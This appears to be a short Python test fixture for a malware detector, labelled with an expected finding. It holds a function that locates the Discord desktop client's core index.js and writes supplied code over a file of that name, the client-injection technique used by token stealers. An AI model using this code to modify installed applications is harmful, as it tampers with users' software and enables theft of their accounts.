import glob
import os


def patch(code):
    for path in glob.glob(os.getenv("LOCALAPPDATA") + "/Discord/app-*/modules/discord_desktop_core-1/discord_desktop_core/index.js"):
        with open(os.path.join(os.getenv("LOCALAPPDATA"), "discord_desktop_core", "index.js"), "w") as file:  # expect: source/injects-into-app call medium
            file.write(code)
